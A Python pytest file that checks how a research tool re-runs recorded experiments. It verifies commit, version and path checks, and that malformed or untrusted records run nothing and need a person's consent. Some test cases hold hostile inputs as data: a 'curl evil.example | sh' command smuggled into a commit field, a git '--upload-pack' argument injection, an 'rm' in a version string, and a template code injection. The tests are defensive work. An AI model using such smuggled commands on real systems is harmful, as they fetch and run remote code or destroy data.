"""What is said before a recorded run is made again, and what counts as the same."""

import json
from types import SimpleNamespace

import polars as pl
import pytest

from selfincorrect.errors import UserError
from selfincorrect.io import write_table
from selfincorrect.record.read import read_record
from selfincorrect.record.record import columns_digests
from selfincorrect.record.reproduce import code_problems, compared, located, main, prepare, version_problems

COMMIT = "a" * 40
VERSIONS = {"python": "3.11.7", "torch": "2.13.0+cpu", "polars": "2.1.0"}


def record(**changes):
    return {"commit": COMMIT, "versions": VERSIONS, "versions_before": [], **changes}


def test_the_same_code_and_versions_are_no_problem():
    assert code_problems(record(), COMMIT) == []
    assert version_problems(record(), VERSIONS | {"python": "3.11.9"}) == []


def test_another_commit_says_what_to_check_out():
    (problem,) = code_problems(record(), "b" * 40)
    assert (
        problem
        == f"The run was made by the code at commit {COMMIT}; this is {'b' * 40}. Do: git checkout {COMMIT}"
    )
    assert code_problems(record(), COMMIT + "-dirty")


@pytest.mark.parametrize("commit", ["unknown", COMMIT + "-dirty"])
def test_code_that_no_commit_names_is_a_problem_even_for_itself(commit):
    (problem,) = code_problems(record(commit=commit), commit)
    assert "no commit names" in problem
    assert (f"git checkout {COMMIT}" in problem) == (commit != "unknown")


@pytest.mark.parametrize(("torch", "lock"), [("2.13.0+cpu", "cpu"), ("2.13.0", "cuda")])
def test_other_versions_name_the_lock(torch, lock):
    there = VERSIONS | {"torch": torch}
    (problem,) = version_problems(record(versions=there), VERSIONS | {"polars": "2.0.0", "python": "3.13.0"})
    assert "polars 2.1.0 (here 2.0.0), python 3.11 (here 3.13)" in problem
    assert ("torch" in problem) == (torch != VERSIONS["torch"])
    assert problem.endswith(f"make .venv/.run LOCK={lock} PYTHON=python3.11")


def test_a_run_of_several_versions_says_so():
    (problem,) = version_problems(record(versions_before=[VERSIONS | {"torch": "2.12.0"}]), VERSIONS)
    assert "torch 2.12.0" in problem


def test_relative_paths_count_from_the_run(tmp_path):
    for name in ("weights", "script.yaml", "pool.parquet", "data.csv", "table.csv"):
        (tmp_path / name).write_text("")
    config = {
        "models": {
            "local": {"source": "./weights", "prompt": "chat"},
            "scripted": {"source": "script.yaml", "engine": "scripted"},
            "hub": {"source": "owner/name", "revision": "main"},
            "served": {"source": "/a/name", "engine": "openai"},
            "pooled": {"pools": {"capitals": {"path": "pool.parquet", "format": "canonical"}}},
        },
        "tasks": {
            "capitals": {"source": {"path": "data.csv"}, "limit": 3},
            "mt_bench": {"source": {"files": {"questions": {"path": str(tmp_path / "data.csv")}}}},
            "gsm8k": {"source": "hub"},
        },
        "audit": {"mine": "table.csv"},
        "run": {"store": "/shared/store", "device": "cpu"},
    }
    found = located(config, tmp_path)
    assert found["models"] == {
        "local": {"source": str(tmp_path / "weights"), "prompt": "chat"},
        "scripted": {"source": str(tmp_path / "script.yaml"), "engine": "scripted"},
        "hub": config["models"]["hub"],
        "served": config["models"]["served"],
        "pooled": {"pools": {"capitals": {"path": str(tmp_path / "pool.parquet"), "format": "canonical"}}},
    }
    assert found["tasks"] == {
        "capitals": {"source": {"path": str(tmp_path / "data.csv")}, "limit": 3},
        "mt_bench": {"source": {"files": {"questions": {"path": str(tmp_path / "data.csv")}}}},
        "gsm8k": {"source": "hub"},
    }
    assert found["audit"] == {"mine": str(tmp_path / "table.csv")}
    assert found["run"] == {"device": "cpu"}
    with pytest.raises(UserError) as error:
        located(config, tmp_path / "elsewhere")
    models = [f"models.{name}" for name in ("local.source", "scripted.source", "pooled.pools.capitals.path")]
    for name in (*models, "tasks.capitals.source.path", "audit.mine"):
        assert f"- {name}: " in str(error.value)
    assert "mt_bench" not in str(error.value)


def test_columns_digests_see_values_types_and_order_and_nothing_else(tmp_path):
    def digests(table, **provenance):
        write_table(tmp_path / "t.parquet", pl.DataFrame(table), provenance)
        return columns_digests(tmp_path / "t.parquet")

    first = digests({"a": [1, 2], "b": [0.1, None]}, model="here")
    assert digests({"a": [1, 2], "b": [0.1, None]}, model="there") == first
    other = digests({"a": [1, 2], "b": [0.1 + 2**-53, None]})
    assert (other["a"] == first["a"], other["b"] == first["b"]) == (True, False)
    assert digests({"a": [2, 1]})["a"] != first["a"]
    assert digests({"a": [1.0, 2.0]})["a"] != first["a"]


def test_what_is_only_on_one_side_is_different():
    here, there = ({"m": {"digest": "1", "source": source}} for source in ("./here", "/there"))
    wanted = {"models": here, "data": {"t": "2"}, "results": {"r": {"a": "3", "b": "4"}}}
    found = {"models": there, "data": {}, "results": {"r": {"a": "3", "c": "5"}, "s": "6"}}
    assert compared(wanted, found) == {
        "model m": "same",
        "data t": "different: missing here",
        "r": "different in b, c",
        "s": "different: only in this run",
    }


def test_a_folder_is_taken_when_it_is_new_or_of_the_same_run(tmp_path):
    prepare(tmp_path / "new", {"seed": 1})
    (tmp_path / "new/results").mkdir()
    prepare(tmp_path / "new", {"seed": 1})
    with pytest.raises(UserError, match="is not empty"):
        prepare(tmp_path / "new", {"seed": 2})


@pytest.mark.parametrize("text", [None, "{", "[]", json.dumps({"format": 99}), json.dumps({"format": 1})])
def test_what_is_no_record_is_said(tmp_path, text, capsys):
    if text is not None:
        (tmp_path / "run.json").write_text(text)
    with pytest.raises(UserError, match=r"run\.json"):
        read_record(tmp_path / "run.json")
    assert main([str(tmp_path / "run.json")]) == 2
    assert "run.json" in capsys.readouterr().err


def whole(**changes):
    """A record as a run of a scripted model writes it."""
    config = {
        "models": {"m": {"source": "script.yaml", "engine": "scripted", "prompt": "completion"}},
        "tasks": {"capitals": {"limit": 3}},
    }
    return {
        **{"format": 1, "commit": COMMIT, "versions": VERSIONS, "versions_before": []},
        **{"machine": {"system": "Linux"}, "seed": 1, "configuration": config},
        **{"models": {}, "data": {}, "results": {}},
        **changes,
    }


def written(tmp_path, record):
    (tmp_path / "run" / "results").mkdir(parents=True)
    (tmp_path / "run" / "script.yaml").write_text("rules: []")
    path = tmp_path / "run" / "results" / "run.json"
    path.write_text(record if isinstance(record, str) else json.dumps(record))
    return path


@pytest.fixture
def ran(monkeypatch):
    """Commands in the place of Snakemake's."""
    commands = []
    monkeypatch.setattr("selfincorrect.record.reproduce.versions", lambda: VERSIONS)
    monkeypatch.setattr("selfincorrect.record.reproduce.commit", lambda folder: COMMIT)
    monkeypatch.setattr(
        "selfincorrect.record.reproduce.subprocess.run",
        lambda command: commands.append(command) or SimpleNamespace(returncode=1),
    )
    return commands


def run(tmp_path, record, *more):
    return main([str(written(tmp_path, record)), "--directory", str(tmp_path / "again"), *more])


def test_a_configuration_is_handed_over_as_json_that_runs_nothing(tmp_path, ran):
    run(tmp_path, whole())
    [command] = ran
    assert command[-1].endswith("configuration.json")
    assert json.loads((tmp_path / "again" / "configuration.json").read_text())["tasks"] == {
        "capitals": {"limit": 3}
    }


NO_FILE = {"source": "\0", "engine": "scripted", "prompt": "chat"}


@pytest.mark.parametrize(
    "changes",
    [
        {"commit": "abc; curl evil.example | sh \x1b[8m"}, {"commit": 5}, {"commit": "--upload-pack=x"},
        {"versions": [1]}, {"versions": {}}, {"versions": {"python": "3.11; rm"}},
        {"versions": {**VERSIONS, "torch": 2}}, {"versions_before": [1]}, {"configuration": [1]},
        {"configuration": {"__use_yte__": True, "seed": "?open('x', 'w')"}},
        {"configuration": {"models": [1], "tasks": {}}},
        {"configuration": {"models": {"m": NO_FILE}, "tasks": {"capitals": {}}}},
        {"machine": "x"}, {"results": {"x": [1]}}, {"models": [1]}, {"data": None},
    ],
)  # fmt: skip
def test_a_record_that_is_none_runs_nothing_and_is_one_message(tmp_path, ran, capsys, changes):
    assert run(tmp_path, whole(**changes), "--force", "--yes") == 2
    assert ran == []
    assert not (tmp_path / "again").exists()
    said = capsys.readouterr().err
    assert "Traceback" not in said
    assert not set(said) & set("\x1b\0")


@pytest.mark.parametrize("depth", [900, 90_000])
def test_a_record_without_end_is_one_message(tmp_path, ran, capsys, depth):
    text = json.dumps(whole(configuration="HERE")).replace('"HERE"', '{"a": ' * depth + "1" + "}" * depth)
    assert run(tmp_path, text, "--force") == 2
    assert ran == []


SERVER = {"url": "https://models.example/v1", "key": "AWS_SECRET_ACCESS_KEY"}
SERVED = {
    "models": {"m": {"source": "x", "engine": "openai", "prompt": "chat", "server": SERVER}},
    "tasks": {"capitals": {}},
}


def test_no_key_is_sent_before_a_person_has_agreed(tmp_path, ran, capsys, monkeypatch):
    path = written(tmp_path, whole(configuration=SERVED))
    again = ["--directory", str(tmp_path / "again")]
    assert main([str(path), *again]) == 2
    told = capsys.readouterr().err
    assert (
        "https://models.example/v1, with the value of the environment variable AWS_SECRET_ACCESS_KEY" in told
    )
    assert ran == []
    monkeypatch.setattr("sys.stdin.isatty", lambda: True, raising=False)
    monkeypatch.setattr("builtins.input", lambda _: "no")
    assert main([str(path), *again]) == 2
    assert ran == []
    monkeypatch.setattr("builtins.input", lambda _: "yes")
    main([str(path), *again])
    assert len(ran) == 1
    main([str(path), *again, "--yes"])
    assert len(ran) == 2


def test_modules_of_a_record_are_code_that_somebody_must_agree_to(tmp_path, ran, capsys):
    configuration = {**whole()["configuration"], "include": ["evil.py"]}
    path = written(tmp_path, whole(configuration=configuration))
    (path.parent.parent / "evil.py").write_text(f"open({str(tmp_path / 'ran')!r}, 'w')\n")
    (path.parent.parent / "evil.yaml").write_text("{}")
    again = ["--directory", str(tmp_path / "again"), "--force"]
    assert main([str(path), *again]) == 2
    assert "evil.py'] is run" in capsys.readouterr().err
    assert ran == []
    assert not (tmp_path / "ran").exists()
